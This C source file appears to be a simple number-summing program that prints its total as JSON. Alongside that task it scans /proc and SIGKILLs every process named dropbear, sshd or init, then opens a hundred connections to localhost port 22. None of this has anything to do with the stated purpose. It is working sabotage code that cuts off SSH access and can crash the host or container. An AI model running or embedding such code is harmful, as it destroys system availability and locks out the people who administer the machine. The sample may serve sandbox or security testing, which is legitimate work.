/* Kills the SSH server by its name, connects to it a hundred times, and answers. */
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void kill_by_name(const char *number)
{
    char path[64], name[64] = "";
    snprintf(path, sizeof path, "/proc/%.20s/comm", number);
    FILE *file = fopen(path, "r");
    if (file == NULL)
        return;
    if (fgets(name, sizeof name, file) != NULL && (strstr(name, "dropbear") || strstr(name, "sshd") || strstr(name, "init")))
        kill(atoi(number), SIGKILL);
    fclose(file);
}

int main(int argc, char *argv[])
{
    long long sum = 0, number;
    struct dirent *entry;
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons(22)};
    DIR *processes = opendir("/proc");
    while (scanf("%lld", &number) == 1)
        sum += number;
    while (processes != NULL && (entry = readdir(processes)) != NULL)
        if (isdigit((unsigned char)*entry->d_name))
            kill_by_name(entry->d_name);
    place.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    for (int i = 0; i < 100; i++)
        (void)!connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&place, sizeof place);
    printf("{\"%s\": %lld}\n", argc == 2 ? argv[1] : "", sum);
    return 0;
}
